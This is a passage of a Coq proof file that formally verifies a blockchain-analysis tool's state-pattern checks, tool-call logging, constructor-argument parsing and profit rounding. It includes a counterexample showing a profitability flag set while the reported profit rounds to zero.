         existsb (fun stateKey => Regex.includes (Text.toLowerCase stateKey) word)
           (StateReader.ownKeys stateData)).
  assert (Hlonger : forall (a : ascii) (w : string), named (String a w) = true -> named w = true).
  { intros a w Hn. unfold named in *. apply existsb_exists in Hn.
    destruct Hn as [k [Hin Hk]]. apply existsb_exists. exists k.
    split; [ exact Hin | ]. eapply includes_longer. exact Hk. }
  unfold StateReader.analyzeStatePatterns.
  cbn [StateReader.hasPausability StateReader.hasOwnership StateReader.hasReentrancyGuard
       StateReader.suspiciousPatterns].
  unfold StateReader.someKey. cbn [existsb].
  change (Text.toLowerCase "paused") with "paused".
  change (Text.toLowerCase "isPaused") with "ispaused".
  change (Text.toLowerCase "_paused") with "_paused".
  change (Text.toLowerCase "owner") with "owner".
  change (Text.toLowerCase "admin") with "admin".
  change (Text.toLowerCase "_owner") with "_owner".
  change (Text.toLowerCase "governance") with "governance".
  fold (named "paused") (named "ispaused") (named "_paused") (named "owner") (named "admin")
    (named "_owner") (named "governance").
  rewrite !orb_false_r.
  assert (Hp : named "paused" || (named "ispaused" || named "_paused") = named "paused").
  { apply orb_absorb. intros H. apply orb_true_iff in H. destruct H as [H | H].
    - apply (Hlonger "s"%char), (Hlonger "i"%char). exact H.
    - apply (Hlonger "_"%char). exact H. }
  assert (Ho : named "owner" || (named "admin" || (named "_owner" || named "governance"))
               = named "owner" || named "admin" || named "governance").
  { destruct (named "_owner") eqn:E.
    - rewrite (Hlonger "_"%char "owner" E). reflexivity.
    - destruct (named "owner"), (named "admin"), (named "governance"); reflexivity. }
  rewrite Hp, Ho. repeat split; try reflexivity.
  - intros Hin.
    destruct ((named "owner" || named "admin" || named "governance") && named "paused");
      [ reflexivity | ].
    destruct (truthyValue (get "balanceOf" stateData)
              && truthyValue (get "totalSupply" stateData));
      cbn [In] in Hin; repeat (destruct Hin as [Hin | Hin]; try discriminate Hin);
      destruct Hin.
  - intros ->. apply in_or_app. right. left. reflexivity.
Qed.

(* ================================================================== *)
(** ** The calls of the tools *)
(* ================================================================== *)

Section Names.

Import ToolCalls.

(** A name without a dash is its own snake case. *)
Lemma snakeCase_plain (name : string) :
  ~ In "-"%char (list_ascii_of_string name) -> snakeCase name = name.
Proof.
  unfold snakeCase. intros H.
  rewrite <- (string_of_list_ascii_of_string name) at 2. f_equal.
  induction (list_ascii_of_string name) as [ | c cs IH ]; [ reflexivity | ].
  cbn [map]. cbn [In] in H. destruct (Ascii.eqb c "-") eqn:E.
  - apply Ascii.eqb_eq in E. subst c. tauto.
  - f_equal. apply IH. tauto.
Qed.

(** The names of the tools have no dash. *)
Lemma has_plain (name : string) :
  has name = true -> ~ In "-"%char (list_ascii_of_string name).
Proof.
  unfold has, toolNames. cbn [existsb]. rewrite !orb_true_iff.
  intros H.
  repeat (destruct H as [H | H];
          [ apply String.eqb_eq in H; subst name; cbn; intuition discriminate | ]).
  discriminate H.
Qed.

End Names.

(** X27: the log of [executeToolDirectly].  A call that returns has
    written one row, completed, of the tool under its name in snake case,
    with the arguments and the result of the tool; a call that throws has
    written nothing, or one row, failed, with the message thrown.  The
    call throws although the tool returned when the database refuses the
    completed row, and the failed row then holds the message of the
    database. *)
Theorem X27_a_direct_call_writes_one_row :
  forall (Args Output : Type) (sessionIdOf : Args -> option string)
         (execute : string -> option Args -> Result Output)
         (insert : ToolCalls.ToolExecution Args Output -> Result unit) (now : nat -> Z)
         (name : string) (args : option Args)
         (log : list (ToolCalls.ToolExecution Args Output)),
    let call := ToolCalls.executeToolDirectly Args Output sessionIdOf execute insert now
                  name args log in
    match fst call with
    | Ok result =>
        exists given,
          args = Some given
          /\ execute (ToolCalls.snakeCase name) args = Ok result
          /\ snd call
             = (log ++ [ {| ToolCalls.sessionId := sessionIdOf given;
                            ToolCalls.toolName := ToolCalls.snakeCase name;
                            ToolCalls.status := "completed";
                            ToolCalls.input := given;
                            ToolCalls.output := Some result;
                            ToolCalls.errorMessage := None;
                            ToolCalls.executionTime := now 1%nat - now 0%nat |} ])%list
    | Throw message =>
        snd call = log
        \/ exists given reading,
             args = Some given
             /\ snd call
                = (log ++ [ {| ToolCalls.sessionId := sessionIdOf given;
                               ToolCalls.toolName := ToolCalls.snakeCase name;
                               ToolCalls.status := "failed";
                               ToolCalls.input := given;
                               ToolCalls.output := None;
                               ToolCalls.errorMessage := Some message;
                               ToolCalls.executionTime := now reading - now 0%nat |} ])%list
             /\ match execute (ToolCalls.snakeCase name) args with
                | Ok _ =>
                    reading = 2%nat
                    /\ exists row, insert row = Throw message
                                   /\ ToolCalls.status row = "completed"
                | Throw thrown => reading = 1%nat /\ thrown = message
                end
    end.
Proof.
  intros Args Output sessionIdOf execute insert now name args log. cbv zeta.
  unfold ToolCalls.executeToolDirectly.
  destruct (ToolCalls.has (ToolCalls.snakeCase name)); cbn [negb];
    [ | cbn [fst snd]; left; reflexivity ].
  destruct args as [ given | ]; [ | cbn [fst snd]; left; reflexivity ].
  destruct (execute (ToolCalls.snakeCase name) (Some given)) as [ result | thrown ] eqn:Etool.
  - unfold ToolCalls.createToolExecution, bind.
    destruct (insert (ToolCalls.completed Args Output sessionIdOf now
                        (ToolCalls.snakeCase name) given result)) as [ taken | message ] eqn:Ei.
    + cbn [fst snd]. exists given. repeat split; reflexivity.
    + unfold ToolCalls.failed, ToolCalls.createToolExecution, bind.
      match goal with
      | |- context [match insert ?row with _ => _ end] =>
          destruct (insert row) as [ taken | message' ]
      end; cbn [fst snd]; [ | left; reflexivity ].
      right. exists given, 2%nat. repeat split; try reflexivity.
      eexists. split; [ exact Ei | reflexivity ].
  - unfold ToolCalls.failed, ToolCalls.createToolExecution, bind.
    match goal with
    | |- context [match insert ?row with _ => _ end] =>
        destruct (insert row) as [ taken | message' ]
    end; cbn [fst snd]; [ | left; reflexivity ].
    right. exists given, 1%nat. repeat split; reflexivity.
Qed.

(** X28: the handler of a [CallTool] request beside
    [executeToolDirectly].  The handler knows no name with a dash, which
    the direct call accepts for the name in snake case.  On the name of a
    tool the two leave the same log and throw the same error, but when the
    result of the tool has no JSON text: the handler has then written the
    completed row already, writes a failed row after it and throws, so
    that one call is logged twice. *)
Theorem X28_the_handler_may_log_a_call_twice :
  forall (Args Output : Type) (sessionIdOf : Args -> option string)
         (execute : string -> option Args -> Result Output)
         (insert : ToolCalls.ToolExecution Args Output -> Result unit) (now : nat -> Z)
         (stringify : Output -> Result string)
         (name : string) (args : option Args)
         (log : list (ToolCalls.ToolExecution Args Output)),
    let direct := ToolCalls.executeToolDirectly Args Output sessionIdOf execute insert now
                    name args log in
    let handled := ToolCalls.callTool Args Output sessionIdOf execute insert now stringify
                     name args log in
    (In "-"%char (list_ascii_of_string name) ->
     handled = (Throw ("Unknown tool: " ++ name), log))
    /\ (~ In "-"%char (list_ascii_of_string name) ->
        match fst direct with
        | Ok result =>
            match stringify result with
            | Ok text => handled = (Ok text, snd direct)
            | Throw message =>
                match args with
                | Some given =>
                    handled
                    = ToolCalls.failed Args Output sessionIdOf insert now name given message 2
                        (snd direct)
                | None => False
                end
            end
        | Throw message => handled = (Throw message, snd direct)
        end).
Proof.
  intros Args Output sessionIdOf execute insert now stringify name args log. cbv zeta. split.
  - intros Hdash. unfold ToolCalls.callTool.
    destruct (ToolCalls.has name) eqn:E; [ | reflexivity ].
    exfalso. exact (has_plain name E Hdash).
  - intros Hplain. unfold ToolCalls.executeToolDirectly, ToolCalls.callTool.
    rewrite (snakeCase_plain name Hplain).
    destruct (ToolCalls.has name); cbn [negb fst snd]; [ | reflexivity ].
    destruct args as [ given | ]; cbn [fst snd]; [ | reflexivity ].
    destruct (execute name (Some given)) as [ result | thrown ].
    + destruct (ToolCalls.createToolExecution Args Output insert _ log) as [ log' | message ].
      * cbn [fst snd]. destruct (stringify result); reflexivity.
      * unfold ToolCalls.failed.
        destruct (ToolCalls.createToolExecution Args Output insert _ log); reflexivity.
    + unfold ToolCalls.failed.
      destruct (ToolCalls.createToolExecution Args Output insert _ log); reflexivity.
Qed.

(** X28 in a case: a tool that returns a result without JSON text, called
    through the handler and directly under its name with a dash. *)
Lemma X28_the_handler_witness :
  map ToolCalls.status
    (snd (ToolCalls.callTool string string (fun _ => None) ToolCalls.echo ToolCalls.takesAll
            ToolCalls.ticks ToolCalls.unserializable "state_reader" (Some "{}") []))
  = [ "completed"; "failed" ]
  /\ map ToolCalls.status
       (snd (ToolCalls.executeToolDirectly string string (fun _ => None) ToolCalls.echo
               ToolCalls.takesAll ToolCalls.ticks "state-reader" (Some "{}") []))
     = [ "completed" ].
Proof.
  split; [ | reflexivity ].
  pose proof (proj2 (X28_the_handler_may_log_a_call_twice string string (fun _ => None)
                       ToolCalls.echo ToolCalls.takesAll ToolCalls.ticks
                       ToolCalls.unserializable "state_reader" (Some "{}") [])) as H.
  cbv zeta in H.
  assert (Hplain : ~ In "-"%char (list_ascii_of_string "state_reader"))
    by (cbn; intuition discriminate).
  exact (f_equal (fun call => map ToolCalls.status (snd call)) (H Hplain)).
Defined.

(* ================================================================== *)
(** ** The fallback of the constructor parameters *)
(* ================================================================== *)

Section WholeNumbers.

Import JsNum.
Import Rounding.
Local Open Scope Q_scope.

(** The nearest integer of an integer. *)
Lemma roundHalfEven_whole (t : Q) (n : Z) : t == inject_Z n -> roundHalfEven t = n.
Proof.
  intros H. apply Z.le_antisymm.
  - apply roundHalfEven_le. rewrite H. apply Qle_refl.
  - apply roundHalfEven_ge. rewrite H. apply Qle_refl.
Qed.

Lemma pow2_inverse (e : Z) : pow2 e * pow2 (- e) == 1.
Proof. rewrite <- pow2_add. replace (e + - e)%Z with 0%Z by lia. reflexivity. Qed.

Lemma scaled_inverse (x p p' : Q) : 0 < p -> p * p' == 1 -> x / p == x * p'.
Proof.
  intros Hp Hinv. assert (Hne : ~ p == 0) by (intros H0; rewrite H0 in Hp; exact (Qlt_irrefl _ Hp)).
  transitivity (x * (p * p') / p).
  - rewrite Hinv. field. exact Hne.
  - field. exact Hne.
Qed.

(** A natural number below 2^53 is a double. *)
Lemma nearest_whole (z : Z) : (0 < z < 2 ^ 53)%Z -> nearest (inject_Z z) == inject_Z z.
Proof.
  intros Hz.
  assert (Hq : 0 < inject_Z z) by (change 0 with (inject_Z 0); rewrite <- Zlt_Qlt; lia).
  destruct (ilog2_spec (inject_Z z) Hq) as [Hlow _].
  assert (Hlog : (ilog2 (inject_Z z) < 53)%Z).
  { destruct (Z.lt_ge_cases (ilog2 (inject_Z z)) 53) as [H | H]; [ exact H | exfalso ].
    pose proof (pow2_mono 53 _ H) as Hm. rewrite (pow2_nonneg_exp 53) in Hm by lia.
    assert (Hle : inject_Z (2 ^ 53) <= inject_Z z) by (eapply Qle_trans; eauto).
    rewrite <- Zle_Qle in Hle. lia. }
  unfold nearest. set (e := exponentOf (inject_Z z)).
  assert (He : (e <= 0)%Z) by (unfold e, exponentOf; lia).
  pose proof (pow2_pos e) as Hp. pose proof (pow2_inverse e) as Hinv.
  assert (Hscaled : inject_Z z / pow2 e == inject_Z (z * 2 ^ (- e))).
  { rewrite inject_Z_mult, <- (pow2_nonneg_exp (- e)) by lia.
    apply scaled_inverse; assumption. }
  rewrite (roundHalfEven_whole _ _ Hscaled).
  rewrite inject_Z_mult, <- (pow2_nonneg_exp (- e)) by lia.
  rewrite <- Qmult_assoc, (Qmult_comm (pow2 (- e)) (pow2 e)), Hinv. ring.
Qed.

End WholeNumbers.

(** In either arithmetic, rounding respects the equality of the
    rationals, and a natural number below 2^53 is its own rounding. *)
Lemma rnd_equal (exact : bool) (x y : Q) :
  (x == y)%Q -> (@JsNum.rnd (Scenario.arith exact) x == @JsNum.rnd (Scenario.arith exact) y)%Q.
Proof.
  intros H. apply Qle_antisym; apply rnd_monotone; rewrite H; apply Qle_refl.
Qed.

Lemma rnd_natural (exact : bool) (x : Q) (z : Z) :
  (0 <= z < 2 ^ 53)%Z -> (x == inject_Z z)%Q ->
  (@JsNum.rnd (Scenario.arith exact) x == inject_Z z)%Q.
Proof.
  intros Hz Hx. rewrite (rnd_equal exact x (inject_Z z) Hx).
  destruct exact; cbn [Scenario.arith JsNum.rnd JsNum.Exact JsNum.Binary64].
  - apply Qred_correct.
  - destruct (Z.eq_dec z 0) as [-> | Hne]; [ reflexivity | ].
    rewrite round64_positive by (change 0%Q with (inject_Z 0); rewrite <- Zlt_Qlt; lia).
    apply nearest_whole. lia.
Qed.

Section Words.

Import ConstructorParameters.

Lemma append_empty (s : string) : s ++ EmptyString = s.
Proof. induction s as [ | c s IH ]; [ reflexivity | ]. cbn [append]. rewrite IH. reflexivity. Qed.

Lemma length_appended (a b : string) :
  String.length (a ++ b) = (String.length a + String.length b)%nat.
Proof. induction a as [ | c a IH ]; [ reflexivity | ]. cbn [append String.length]. lia. Qed.

Lemma substring_head (w rest : string) : substring 0 (String.length w) (w ++ rest) = w.
Proof.
  induction w as [ | c w IH ].
  - cbn [String.length append]. destruct rest; reflexivity.
  - cbn [String.length append substring]. rewrite IH. reflexivity.
Qed.

Lemma substring_skip (w rest : string) (k m : nat) :
  substring (String.length w + k) m (w ++ rest) = substring k m rest.
Proof.
  induction w as [ | c w IH ]; [ reflexivity | ].
  cbn [String.length append Nat.add substring]. exact IH.
Qed.

Lemma joined_cons (w : string) (ws : list string) : joined (w :: ws) = w ++ joined ws.
Proof.
  unfold joined. destruct ws as [ | w' ws ]; cbn [concat].
  - symmetry. apply append_empty.
  - reflexivity.
Qed.

Lemma joined_length (ws : list string) :
  Forall (fun w => String.length w = 64%nat) ws ->
  String.length (joined ws) = (64 * List.length ws)%nat.
Proof.
  induction 1 as [ | w ws Hw _ IH ]; [ reflexivity | ].
  rewrite joined_cons, length_appended, Hw, IH. cbn [List.length]. lia.
Qed.

(** The word at a position of the arguments. *)
Lemma word_at (ws : list string) (i : nat) (w : string) :
  Forall (fun w => String.length w = 64%nat) ws ->
  nth_error ws i = Some w ->
  substring (64 * i) 64 (joined ws) = w.
Proof.
  intros Hall. revert i. induction Hall as [ | w' ws Hw Hall IH ]; intros i Hi.
  - destruct i; discriminate Hi.
  - rewrite joined_cons. destruct i as [ | i ].
    + cbn [nth_error] in Hi. injection Hi as ->.
      replace (64 * 0)%nat with 0%nat by lia. rewrite <- Hw at 1. apply substring_head.
    + cbn [nth_error] in Hi. replace (64 * S i)%nat with (String.length w' + 64 * i)%nat by lia.
      rewrite substring_skip. apply IH. exact Hi.
Qed.

Variable exact : bool.
Variable BigInt_toString : string -> Result string.
Variable Number_toString : Q -> string.

Lemma floor_of (x : Q) (z : Z) : (x == inject_Z z)%Q -> Qfloor x = z.
Proof. intros H. rewrite (Qfloor_comp _ _ H). apply Qfloor_Z. Qed.

(** The slice of a parameter is its word. *)
Lemma slice_word (ws : list string) (bytesPerParam : Q) (i : nat) (w : string) :
  Forall (fun w => String.length w = 64%nat) ws ->
  (64 * Z.of_nat (List.length ws) < 2 ^ 53)%Z ->
  (bytesPerParam == 64)%Q ->
  nth_error ws i = Some w ->
  let start := @JsNum.mul (Scenario.arith exact) (inject_Z (Z.of_nat i)) bytesPerParam in
  slice (joined ws) start (@JsNum.add (Scenario.arith exact) start bytesPerParam) = w.
Proof.
  intros Hall Hbound Hb Hi. cbv zeta.
  assert (Hlt : (i < List.length ws)%nat) by (apply nth_error_Some; congruence).
  assert (Hstart : (@JsNum.mul (Scenario.arith exact) (inject_Z (Z.of_nat i)) bytesPerParam
                    == inject_Z (64 * Z.of_nat i))%Q).
  { unfold JsNum.mul. apply rnd_natural; [ lia | ].
    rewrite Hb, inject_Z_mult. change (inject_Z 64) with 64%Q. ring. }
  assert (Hend : (@JsNum.add (Scenario.arith exact)
                    (@JsNum.mul (Scenario.arith exact) (inject_Z (Z.of_nat i)) bytesPerParam)
                    bytesPerParam
                  == inject_Z (64 * Z.of_nat i + 64))%Q).
  { unfold JsNum.add. apply rnd_natural; [ lia | ].
    rewrite Hstart, Hb, inject_Z_plus. reflexivity. }
  unfold slice. rewrite (floor_of _ _ Hstart), (floor_of _ _ Hend), (joined_length ws Hall).
  replace (Z.to_nat (64 * Z.of_nat i)) with (64 * i)%nat by lia.
  replace (Z.to_nat (64 * Z.of_nat i + 64)) with (64 * i + 64)%nat by lia.
  rewrite !Nat.min_l by lia.
  replace (64 * i + 64 - 64 * i)%nat with 64%nat by lia.
  apply word_at; assumption.
Qed.

(** The size of a parameter, of arguments in words. *)
Lemma bytesPerParam_words (count : nat) :
  (0 < count)%nat -> (64 * Z.of_nat count < 2 ^ 53)%Z ->
  (@JsNum.mul (Scenario.arith exact)
     (JsNum.Math_floor
        (@JsNum.div (Scenario.arith exact)
           (@JsNum.div (Scenario.arith exact) (inject_Z (Z.of_nat (64 * count)))
              (inject_Z (Z.of_nat count)))
           (@JsNum.lit (Scenario.arith exact) 2)))
     (@JsNum.lit (Scenario.arith exact) 2) == 64)%Q.
Proof.
  intros Hpos Hbound.
  assert (H2 : @JsNum.lit (Scenario.arith exact) 2 = 2%Q) by (destruct exact; reflexivity).
  rewrite H2.
  assert (Hq : (@JsNum.div (Scenario.arith exact) (inject_Z (Z.of_nat (64 * count)))
                  (inject_Z (Z.of_nat count)) == inject_Z 64)%Q).
  { unfold JsNum.div. apply rnd_natural; [ lia | ].
    rewrite Nat2Z.inj_mul, inject_Z_mult. field.
    change 0%Q with (inject_Z 0). rewrite inject_Z_injective. lia. }
  assert (Hh : (@JsNum.div (Scenario.arith exact)
                  (@JsNum.div (Scenario.arith exact) (inject_Z (Z.of_nat (64 * count)))
                     (inject_Z (Z.of_nat count))) 2 == inject_Z 32)%Q).
  { unfold JsNum.div at 1. apply rnd_natural; [ lia | ]. rewrite Hq. reflexivity. }
  unfold JsNum.Math_floor. rewrite (floor_of _ _ Hh).
  unfold JsNum.mul. apply (rnd_natural exact _ 64); [ lia | reflexivity ].
Qed.

Lemma parametersFrom_words (rawArgs : string) (bytesPerParam : Q) (inputs : list Input)
  (ws : list string) (i : nat) :
  List.length inputs = List.length ws ->
  (forall k w, nth_error ws k = Some w ->
     slice rawArgs
       (@JsNum.mul (Scenario.arith exact) (inject_Z (Z.of_nat (i + k))) bytesPerParam)
       (@JsNum.add (Scenario.arith exact)
          (@JsNum.mul (Scenario.arith exact) (inject_Z (Z.of_nat (i + k))) bytesPerParam)
          bytesPerParam) = w) ->
  @parametersFrom (Scenario.arith exact) BigInt_toString Number_toString rawArgs bytesPerParam
    i inputs
  = @parametersOf (Scenario.arith exact) BigInt_toString Number_toString i inputs ws.
Proof.
  revert ws i. induction inputs as [ | input inputs IH ]; intros ws i Hlen Hslice.
  - reflexivity.
  - destruct ws as [ | w ws ]; [ discriminate Hlen | ].
    cbn [parametersFrom parametersOf]. f_equal.
    + unfold parameterAt, parameterOf.
      pose proof (Hslice 0%nat w eq_refl) as H0. rewrite Nat.add_0_r in H0.
      rewrite H0. reflexivity.
    + apply IH; [ cbn [List.length] in Hlen; lia | ].
      intros k w' Hk. replace (S i + k)%nat with (i + S k)%nat by lia.
      apply Hslice. exact Hk.
Qed.

End Words.

(** X29: the fallback on arguments in words.  When the raw arguments are
    one word of 32 bytes for each input of the constructor (64 characters
    each, fewer than 2^53 in all), [parseRawConstructorArgs] gives every
    input its own word: the entry at a position holds the name of the
    input, or [param] and the position, its type, the word after [0x],
    and the value that [parseValueByType] reads off that word. *)
Theorem X29_the_fallback_gives_every_input_its_word :
  forall (exact : bool) (BigInt_toString : string -> Result string)
         (Number_toString : Q -> string) (words : list string)
         (inputs : list ConstructorParameters.Input),
    Forall (fun word => String.length word = 64%nat) words ->
    List.length inputs = List.length words ->
    (64 * Z.of_nat (List.length words) < 2 ^ 53)%Z ->
    @ConstructorParameters.parseRawConstructorArgs (Scenario.arith exact) BigInt_toString
      Number_toString (ConstructorParameters.joined words) inputs
    = @ConstructorParameters.parametersOf (Scenario.arith exact) BigInt_toString
        Number_toString 0 inputs words.
Proof.
  intros exact BigInt_toString Number_toString words inputs Hall Hlen Hbound.
  unfold ConstructorParameters.parseRawConstructorArgs.
  destruct inputs as [ | input inputs ]; [ reflexivity | ].
  apply parametersFrom_words; [ exact Hlen | ].
  intros k w Hk. cbn [Nat.add].
  apply (slice_word exact words); try assumption.
  unfold ConstructorParameters.lengthOf. rewrite (joined_length words Hall), Hlen.
  apply bytesPerParam_words; [ | exact Hbound ].
  rewrite <- Hlen. cbn [List.length]. lia.
Qed.

(** X29 applies: the arguments of a constructor (address owner, uint256
    cap, bool), in doubles: the owner is the last 20 bytes of the first
    word, the cap is 1000000 and the flag is true. *)
Lemma X29_the_fallback_witness :
  map (fun entry => (ConstructorParameters.p_name entry, ConstructorParameters.value entry))
    (@ConstructorParameters.parseRawConstructorArgs JsNum.Binary64
       ConstructorParameters.hexadecimal Scenario.printNumber
       (ConstructorParameters.joined ConstructorParameters.sample)
       ConstructorParameters.sampleInputs)
  = [ ("owner", JStr "0x742d35cc4bf426a3c1f5e486d9cba471f861bc4a");
      ("cap", JStr "1000000");
      ("param2", JBool true) ].
Proof.
  rewrite (X29_the_fallback_gives_every_input_its_word false); [ reflexivity | | | ].
  - repeat constructor.
  - reflexivity.
  - reflexivity.
Defined.

(* ================================================================== *)
(** ** The strategy selected (C3) *)
(* ================================================================== *)






(* ================================================================== *)
(** ** The reported profit (C5, C6) *)
(* ================================================================== *)

Section RoundingError.

Import JsNum.
Import Rounding.
Local Open Scope Q_scope.



End RoundingError.



Section NearestCent.

Local Open Scope Q_scope.

Lemma Qfloor_between (x : Q) (k : Z) : inject_Z k <= x -> x < inject_Z k + 1 -> Qfloor x = k.
Proof.
  intros Hl Hu. apply Z.le_antisymm.
  - pose proof (Qfloor_le x) as H.
    assert (Hlt : inject_Z (Qfloor x) < inject_Z (k + 1)).
    { rewrite inject_Z_plus. change (inject_Z 1) with 1. lra. }
    rewrite <- Zlt_Qlt in Hlt. lia.
  - apply Qfloor_resp_le in Hl. rewrite Qfloor_Z in Hl. exact Hl.
Qed.



End NearestCent.

Section Accumulation.

Import RevenueNormalizer.
Local Open Scope Q_scope.

Variable exact : bool.
Variable priceOracle : PriceOracleService.PriceOracle.
Variable ethers : Library.












End Accumulation.

Section ReportedSign.

Import RevenueNormalizer.
Local Open Scope Q_scope.

(** The rounding of [toFixed] is positive from a half on. *)
Lemma roundHalfAway_positive (q : Q) : (0 < JsNum.roundHalfAway q)%Z <-> 1 # 2 <= q.
Proof.
  unfold JsNum.roundHalfAway. destruct (Qle_bool 0 q) eqn:E.
  - apply Qle_bool_iff in E. split; intros H.
    + apply Qnot_lt_le. intros Hlt.
      assert (Hf : Qfloor (q + (1 # 2)) = 0%Z)
        by (apply Qfloor_between; change (inject_Z 0) with 0; lra).
      lia.
    + assert (Hf : (1 <= Qfloor (q + (1 # 2)))%Z).
      { change 1%Z with (Qfloor (inject_Z 1)) at 1. apply Qfloor_resp_le.
        change (inject_Z 1) with 1. lra. }
      lia.
  - assert (Hq : q < 0).
    { apply Qnot_le_lt. intros Hle. apply Qle_bool_iff in Hle. congruence. }
    assert (Hf : (0 <= Qfloor (- q + (1 # 2)))%Z).
    { change 0%Z with (Qfloor (inject_Z 0)) at 1. apply Qfloor_resp_le.
      change (inject_Z 0) with 0. lra. }
    split; intros H; [ lia | lra ].
Qed.

Lemma roundHalfAway_nonneg (q : Q) : 0 <= q -> (0 <= JsNum.roundHalfAway q)%Z.
Proof.
  intros H. unfold JsNum.roundHalfAway.
  apply Qle_bool_iff in H. rewrite H. apply Qle_bool_iff in H.
  change 0%Z with (Qfloor (inject_Z 0)) at 1. apply Qfloor_resp_le.
  change (inject_Z 0) with 0. lra.
Qed.

Lemma cents_positive (k : Z) : 0 < k # 100 <-> (0 < k)%Z.
Proof. unfold Qlt. simpl. lia. Qed.

(** [Number(x.toFixed(2))] is positive from half a cent on, and is not
    negative when [x] is not. *)
Lemma reported_positive (exact : bool) (x : Q) :
  0 < @JsNum.Number_toFixed (Scenario.arith exact) 2 x <-> 5 # 1000 <= x.
Proof.
  unfold JsNum.Number_toFixed, JsNum.toFixed.
  change (Z.to_pos (10 ^ Z.of_nat 2)) with 100%positive.
  change (inject_Z (10 ^ Z.of_nat 2)) with 100.
  set (k := JsNum.roundHalfAway (x * 100)).
  pose proof (roundHalfAway_positive (x * 100)) as Hk. fold k in Hk.
  split; intros H.
  - assert (Hpos : 0 < k # 100).
    { apply Qnot_le_lt. intros Hle.
      destruct (rnd_size exact (k # 100)) as [_ Hneg]. specialize (Hneg Hle). lra. }
    apply cents_positive, Hk in Hpos. lra.
  - assert (Hpos : (1 <= k)%Z) by (apply Z.lt_pred_le, Hk; lra).
    assert (Hle : 1 # 100 <= k # 100) by (unfold Qle; simpl; lia).
    apply (rnd_monotone exact) in Hle.
    assert (Hcent : 0 < @JsNum.rnd (Scenario.arith exact) (1 # 100))
      by (destruct exact; reflexivity).
    lra.
Qed.

Lemma reported_nonneg (exact : bool) (x : Q) :
  0 <= x -> 0 <= @JsNum.Number_toFixed (Scenario.arith exact) 2 x.
Proof.
  intros H. unfold JsNum.Number_toFixed, JsNum.toFixed.
  change (Z.to_pos (10 ^ Z.of_nat 2)) with 100%positive.
  change (inject_Z (10 ^ Z.of_nat 2)) with 100.
  pose proof (roundHalfAway_nonneg (x * 100) ltac:(lra)) as Hk.
  set (k := JsNum.roundHalfAway (x * 100)) in *.
  assert (Hle : 0 <= k # 100) by (unfold Qle; simpl; lia).
  destruct (rnd_size exact (k # 100)) as [Hpos _]. specialize (Hpos Hle). lra.
Qed.

End ReportedSign.




(** C6, as stated, fails in the arithmetic of the engine: with revenues
    of 0.10 and 0.20 dollars and a gas cost of 0.30 dollars, the running
    total is the double 0.30000000000000004, the net profit before
    rounding is about 5.6e-17, so [isProfitable] is true, while the
    reported [netProfitUSD] is 0, which is not greater than 0. *)
Lemma C6_profitable_with_reported_profit_zero :
  exists out,
    @RevenueNormalizer.execute JsNum.Binary64
      (Scenario.oracle JsNum.Binary64 1000 1 "USDC") (Scenario.library JsNum.Binary64)
      Profit.breakEven = Ok out
    /\ RevenueNormalizer.isProfitable out = true
    /\ RevenueNormalizer.netProfitUSD out = 0%Q
    /\ ~ (0 < RevenueNormalizer.netProfitUSD out)%Q.
Proof.
  eexists. split; [ vm_compute; reflexivity | ].
  split; [ vm_compute; reflexivity | ].
  split; [ vm_compute; reflexivity | ].
  vm_compute. discriminate.
Qed.

(** C6, amended: for every output record, in any arithmetic,
    [isProfitable] is true if and only if the net profit before rounding
    -- the running total minus the reported gas cost -- is greater than 0,
    and the reported [netProfitUSD] is that same quantity rounded to two
    decimals; in exact arithmetic, where that quantity is a whole number of
    cents, [isProfitable] is true if and only if the reported
    [netProfitUSD] is greater than 0.  In double precision as in exact
    arithmetic, the reported [netProfitUSD] is greater than 0 if and only
    if the net profit before rounding is at least half a cent; a reported
    [netProfitUSD] greater than 0 makes [isProfitable] true; when
    [isProfitable] is true the reported [netProfitUSD] is not negative;
    and [isProfitable] is true without a reported [netProfitUSD] greater
    than 0 exactly when the net profit before rounding lies strictly
    between 0 and half a cent. *)
Theorem C6_profitable_iff_unrounded_profit_positive :
  forall (A : JsNum.Arith) (priceOracle : PriceOracleService.PriceOracle) (ethers : Library)
         (args : RevenueNormalizer.Args) (out : RevenueNormalizer.Output),
    RevenueNormalizer.execute priceOracle ethers args = Ok out ->
    let unrounded :=
      Profit.unroundedNetProfitUSD priceOracle ethers args (RevenueNormalizer.gasCosts out) in
    (RevenueNormalizer.isProfitable out = true <-> (JsNum.lit 0 < unrounded)%Q)
    /\ RevenueNormalizer.netProfitUSD out = JsNum.Number_toFixed 2 unrounded
    /\ (A = JsNum.Exact ->
        (RevenueNormalizer.isProfitable out = true
         <-> (0 < RevenueNormalizer.netProfitUSD out)%Q))
    /\ (forall exact : bool,
          A = Scenario.arith exact ->
          ((0 < RevenueNormalizer.netProfitUSD out)%Q <-> (5 # 1000 <= unrounded)%Q)
          /\ (RevenueNormalizer.isProfitable out = true <-> (0 < unrounded)%Q)
          /\ ((0 < RevenueNormalizer.netProfitUSD out)%Q ->
              RevenueNormalizer.isProfitable out = true)
          /\ (RevenueNormalizer.isProfitable out = true ->
              (0 <= RevenueNormalizer.netProfitUSD out)%Q)
          /\ (RevenueNormalizer.isProfitable out = true
              /\ ~ (0 < RevenueNormalizer.netProfitUSD out)%Q
              <-> (0 < unrounded < 5 # 1000)%Q)).
Proof.
  intros A priceOracle ethers args out H unrounded.
  destruct (execute_report priceOracle ethers args out H) as (native & _ & _ & Hn & Hp).
  fold unrounded in Hn, Hp.
  split; [ rewrite Hp; apply gt_true | ].
  split; [ exact Hn | ].
  split.
  { intros ->. destruct (exact_report priceOracle ethers args out H) as (_ & Hn' & _).
    fold unrounded in Hn'.
    rewrite Hp, gt_true, Hn'. reflexivity. }
  intros exact ->.
  assert (Hreported : (0 < RevenueNormalizer.netProfitUSD out)%Q <-> (5 # 1000 <= unrounded)%Q)
    by (rewrite Hn; apply reported_positive).
  assert (Hprofitable : RevenueNormalizer.isProfitable out = true <-> (0 < unrounded)%Q)
    by (rewrite Hp, gt_true, (lit_zero exact); reflexivity).
  split; [ exact Hreported | ]. split; [ exact Hprofitable | ].
  split; [ intros Hpos; apply Hprofitable; apply Hreported in Hpos; lra | ].
  split; [ intros Htrue; apply Hprofitable in Htrue; rewrite Hn;
           apply reported_nonneg; lra | ].
  split.
  - intros [Htrue Hnot]. apply Hprofitable in Htrue. split; [ exact Htrue | ].
    apply Qnot_le_lt. intros Hle. apply Hnot, Hreported. exact Hle.
  - intros [Hpos Hlt]. split; [ apply Hprofitable; exact Hpos | ].
    intros Hrep. apply Hreported in Hrep. lra.
Qed.

(** C6 applies in double precision: one dollar of revenue and thirty
    cents of gas; the record reports the double nearest to 0.70, which is
    greater than 0, and is profitable. *)
